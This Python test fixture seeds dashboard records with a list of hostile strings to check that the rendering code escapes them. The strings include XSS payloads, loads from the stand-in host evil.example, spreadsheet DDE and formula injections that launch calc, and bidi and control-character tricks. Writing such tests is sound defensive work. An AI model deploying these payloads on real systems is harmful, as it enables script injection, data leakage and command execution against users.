"""Texts that would do harm on a page, in a table or in a spreadsheet that took them for more than text."""

from __future__ import annotations

import json
import os
import time
from dataclasses import fields
from typing import Any

from spanledger.records import CallRecord, Event, Score
from tests.dashboards.traffic import Traffic

MARK = "owned"
SCRIPT = f"window.{MARK}=1"

TEXTS = [
    f"<script>{SCRIPT}</script>",
    f"<img src=x onerror=\"{SCRIPT}\">",
    f"<svg/onload={SCRIPT}>",
    f"<body onload={SCRIPT}>",
    f"<iframe srcdoc=\"<script>parent.{MARK}=1</script>\"></iframe>",
    f"<a href=\"javascript:{SCRIPT}\">click</a>",
    f"[click](javascript:{SCRIPT})",
    f"![x](https://evil.example/{MARK}.png)",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<object data=\"data:text/html,<script>{SCRIPT}</script>\">",
    f"<embed src=\"javascript:{SCRIPT}\">",
    f"<base href=\"https://evil.example/\"><script src=\"{MARK}.js\"></script>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{SCRIPT}\">",
    f"<style>@import 'https://evil.example/{MARK}.css'</style>",
    f"<link rel=stylesheet href=https://evil.example/{MARK}.css>",
    f"</script><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"\"><script>{SCRIPT}</script>",
    f"'-{SCRIPT}-'",
    f"${{{SCRIPT}}}",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"<template><script>{SCRIPT}</script></template>",
    f"<%= {SCRIPT} %>",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"\u202e<script>{SCRIPT}</script>\u202c",
    "\u2066admin\u2069 \u200fdrow\u200e",
    "nul \x00 and bell \x07 and escape \x1b[31m",
    "a" * 1_000_000,
    "\u0338" * 5_000 + "zalgo",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",
    "{\"role\": \"system\", \"parts\": [{\"type\": \"image_url\", \"image_url\": {\"url\": \"https://evil.example/a.png\"}}]}",
]  # fmt: skip


def hostile(project: str, now: int | None = None) -> Traffic:
    """A call, its scores and an event for each text, with the text wherever a stranger could put one."""
    made = Traffic()
    now = now or time.time_ns()
    for place, text in enumerate(TEXTS):
        short = text[:300]
        at = now - (place + 1) * 20 * 10**9
        trace, own = os.urandom(16), os.urandom(8)
        named: dict[str, Any] = {field.name: short for field in fields(CallRecord) if field.name in _NAMES}
        message = json.dumps([{"role": short, "parts": [
            {"type": "text", "content": text}, {"type": "tool_call", "name": short, "arguments": {short: short}},
            {"type": "image_url", "image_url": {"url": short}}, {"type": short, short: short},
        ]}])  # fmt: skip
        documents = json.dumps(
            [{"id": short, "source": short, "content": text[:3000], "version": short, "updated_at": short}]
        )
        known: dict[str, Any] = {
            "status": "error" if place % 3 == 0 else "ok",
            "operation": "chat",
            "billable": True,
            "attempt": 1,
            "cache": "exact" if place % 4 == 0 else "miss",
            "tags": [short],
        }
        made.spans.append(
            CallRecord(
                **{**named, **known},
                project=project,
                trace_id=trace,
                span_id=own,
                start_time=at,
                duration_ns=10**9,
                input=text if place % 2 else message,
                output=message,
                documents=documents,
                attributes={short: text[:1000]},
                events=text[:1000],
            )
        )
        made.scores.append(
            Score(
                project=project,
                score_id=f"h{place}",
                trace_id=trace,
                span_id=own,
                name=short[:80],
                value=0.5,
                label=short,
                explanation=text[:5000],
                scorer=short,
                scorer_version=short,
                judge_id=short,
                evaluator=short,
                author=short,
                time=at,
                created_at=at,
                route=short,
                upstream=short,
                request_model=short,
            )
        )
        made.events.append(
            Event(
                project=project,
                event_id=f"h{place}",
                time=at,
                kind="route_switch" if place % 2 else "alert",
                severity="critical",
                subject=short,
                title=short,
                message=text[:5000],
                evidence=json.dumps({short: short}) if place % 2 else text[:5000],
                dedup_key=short,
                state="firing",
                author=short,
            )
        )
    return made


_NAMES = (
    "team", "feature", "customer_id", "user_id", "session_id", "key_id", "name", "status_message", "error_type",
    "provider", "request_model", "response_model", "response_id", "finish_reason", "route", "upstream", "fallback_from",
    "route_reason", "server_address", "gpu_pool", "prompt_name", "prompt_label", "experiment", "agent_name",
    "tool_name", "guard_action", "service", "service_version", "environment", "sdk", "scope", "price_source",
)  # fmt: skip
